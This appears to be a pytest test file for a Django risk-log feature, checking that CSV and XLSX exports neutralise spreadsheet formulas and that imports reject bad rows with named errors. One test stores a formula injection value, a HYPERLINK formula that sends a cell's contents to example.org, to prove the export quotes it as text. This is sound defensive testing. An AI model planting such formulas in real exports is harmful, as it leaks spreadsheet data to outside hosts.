"""The risk and issue log out and back in as a spreadsheet, by the plan's rules."""

import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from risks.models import Risk

from .factories import RiskFactory, RiskUpdateFactory

pytestmark = pytest.mark.django_db
HEADER = (
    "Reference,Risk or issue,Title,Description,Owner,Raised on,Actions affected,Status,"
    "Likelihood,Impact,Mitigation,Review date"
)


def _upload(client, plan, text: str, name="risks.csv"):
    data = SimpleUploadedFile(name, text.encode("utf-8-sig"), content_type="text/csv")
    return client.post(reverse("plan_files:risk_import", args=[plan.slug]), {"file": data})


def test_the_export_neutralises_formulas_and_imports_back_into_another_plan(
    client_for, plan, plan_manager, action_owner, plan_actions
):
    risk = RiskFactory(
        plan=plan,
        owner=action_owner,
        reference="R1",
        title='=HYPERLINK("https://example.org?"&B2,"Details")',
        actions=plan_actions,
    )
    RiskUpdateFactory(risk=risk, likelihood=3, impact=5, review_date=datetime.date(2020, 5, 5))
    client = client_for(plan_manager)
    workbook = client.get(reverse("plan_files:risk_export_xlsx", args=[plan.slug]))
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    title = sheet["C2"]
    assert title.data_type == "s" and title.quotePrefix  # text, never a formula
    csv_text = client.get(reverse("plan_files:risk_export_csv", args=[plan.slug])).content
    row = csv_text.decode("utf-8-sig").splitlines()[1]
    assert row.startswith("R1,Risk,\"'=HYPERLINK(")
    assert "1.02, 1.13" in row and ",Open,3,5," in row and "05/05/2020" in row

    risk.delete()  # back in as it went out
    response = _upload(client, plan, csv_text.decode("utf-8-sig"))
    assert response.status_code == 302
    back = Risk.objects.get(plan=plan, reference="R1")
    assert back.title == risk.title and back.owner == action_owner
    assert back.updates.get().score == 15 and back.actions.count() == 2


def test_an_import_with_any_bad_row_writes_nothing_and_names_every_problem(
    client_for, plan, plan_manager, action_owner, plan_actions, other_plan_action
):
    owner = action_owner.email
    rows = [
        HEADER,
        f"R1,Risk,Recruitment of permanent social workers,,{owner},14/10/2019,1.02,Open,4,4,,",
        f"R2,Risk,Mosaic go-live,,{owner},05/11/2019,,Open,7,4,,",
        f"I1,Issue,Covid-19,,{owner},16/03/2020,9.99,Open,3,3,,01/03/2020",
        "R3,Risk,Placement sufficiency,,someone.else@example.org,21/10/2019,,Shelved,3,3,,",
    ]
    response = _upload(client_for(plan_manager), plan, "\n".join(rows))
    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was imported" in page
    for problem in [
        "Row 3: Likelihood must be a whole number from 1 to 5, not “7”.",
        "Row 4: No action 9.99 in this plan.",
        "Row 4: An issue has already happened: leave likelihood and impact empty.",
        "Row 4: The review date cannot be before the day it was raised.",
        "Row 5: Status must be Open, Managed or Closed.",
        "Row 5: Owner “someone.else@example.org” is not a member of this plan.",
    ]:
        assert problem in page
    assert not Risk.objects.exists()
